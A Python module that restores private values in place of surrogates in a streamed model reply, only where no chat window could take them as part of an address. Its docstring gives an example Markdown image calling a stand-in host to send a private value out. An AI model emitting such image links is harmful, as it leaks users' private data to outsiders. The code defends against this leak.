"""Putting private values back into a reply that may come in pieces, on the owner's side only.

The way back of a private map: a surrogate that stands alone, whatever its case, becomes the value it was drawn for.
What might still become a surrogate is held back until the next piece; nothing else waits.

The vendor writes the reply, and a chat window fetches pictures: `![](https://elsewhere.example/?ID-00017)` would send
a private value to whoever wrote it. What an address is, differs from window to window; so a surrogate is restored only
where no window can take it for a part of one: between white space (of ASCII, the only one that ends an address), but
for quotes, brackets and emphasis before it and punctuation after it; and not in what `_Surroundings` leaves alone.
"""

from __future__ import annotations

from collections.abc import Mapping

__all__ = ["Restorer"]

_SPACE = frozenset(" \t\n\r\f\v")
_OPENING = frozenset("\"'“‘«„(*_`~")
_CLOSING = frozenset(".,;:!?)\"'”’»*_`~…")
_FENCE = 3  # as many make one


class Restorer:
    """Restores one reply.

    Args:
        originals: Surrogate, in lower case, to private value.

    Example:
        >>> restorer = Restorer({"id-00017": "B-4711"})
        >>> restorer.feed("See ID-000"), restorer.feed("17, not ID-000170."), restorer.close()
        ('See ', 'B-4711, not ID-000170.', '')
    """

    def __init__(self, originals: Mapping[str, str]) -> None:
        self._originals = dict(originals)
        self._beginnings = {surrogate[:n] for surrogate in originals for n in range(1, len(surrogate) + 1)}
        self._held = ""
        self._around = _Surroundings()

    def feed(self, piece: str) -> str:
        """Return what can be said for sure once this piece is there."""
        return self._advance(self._held + piece, last=False)

    def close(self) -> str:
        """Return the rest: the reply has ended."""
        return self._advance(self._held, last=True)

    def _advance(self, text: str, *, last: bool) -> str:
        said, place = list[str](), 0
        while place < len(text):
            end = self._end(text, place, last=last)
            if end is None:
                break
            if end > place:
                said.append(self._originals[text[place:end].lower()])
                self._around.pass_surrogate()
                place = end
            else:
                said.append(text[place])
                self._around.pass_character(text[place])
                place += 1
        self._held = text[place:]
        return "".join(said)

    def _end(self, text: str, start: int, *, last: bool) -> int | None:
        """Return where the longest surrogate ends that stands here, its start if none does, None if that is open."""
        if not self._around.open:
            return start
        end = start
        while end < len(text) and text[start : end + 1].lower() in self._beginnings:
            end += 1
        if end == len(text) and not last:
            return None
        for longest in range(end, start, -1):
            if text[start:longest].lower() in self._originals:
                stands = _ends_well(text, longest, quoted=self._around.quoted, last=last)
                if stands is not False:
                    return longest if stands else None
        return start


class _Surroundings:
    r"""What has come before a place in a reply, as far as it may be an address or a drawing that fetches one.

    Windows differ in where such a thing ends, so nothing is taken for an end but that of a line after "<":

        <                              to the end of the line: an address in it may hold spaces
        <name, </, <!, <?              what may be a tag, whose attributes may hold anything
        ](, ]:                         a link, or the address that a picture elsewhere refers to
        \name                          formulas have links and pictures, and names that are defined anew
        three or more of `, ~ or :     a block, which windows draw diagrams from
        {                              attributes of Markdown's: from here on only what stands alone in double quotes,
                                       as values of JSON do
    """

    def __init__(self) -> None:
        self._plain = True  # since white space, nothing has come but what may stand before a surrogate
        self._angle = self._shut = False
        self.quoted = False  # a surrogate must stand alone in double quotes
        self._before, self._run = "", 0  # the character before this place, and how often it stands there

    @property
    def open(self) -> bool:
        """Whether a surrogate that stands here may be restored."""
        return self._plain and not (self._shut or self._angle or (self.quoted and self._before != '"'))

    def pass_surrogate(self) -> None:
        """Go past a surrogate that was restored."""
        self._plain, self._before, self._run = False, "", 0

    def pass_character(self, character: str) -> None:
        """Go past a character that stays."""
        before = self._before
        self._run = self._run + 1 if character == before else 1
        tag = before == "<" and (character.isalpha() or character in "/!?")
        link = before == "]" and character in "(:"
        name = before == "\\" and character.isalpha()
        self._shut = self._shut or tag or link or name or (character in "`~:" and self._run >= _FENCE)
        self._angle = character == "<" or (self._angle and character != "\n")
        self.quoted = self.quoted or character == "{"
        self._plain = character in _SPACE or (self._plain and character in _OPENING)
        self._before = character


def _ends_well(text: str, end: int, *, quoted: bool, last: bool) -> bool | None:
    """Whether only punctuation, or a genitive s, stands between a surrogate's end and white space; None if unknown."""
    if quoted and text[end : end + 1] != '"':
        return None if end == len(text) and not last else False
    if text[end : end + 2].lower() in ("'s", "’s"):
        end += 2
    while end < len(text) and text[end] in _CLOSING:
        end += 1
    if end == len(text):
        return True if last else None
    return text[end] in _SPACE
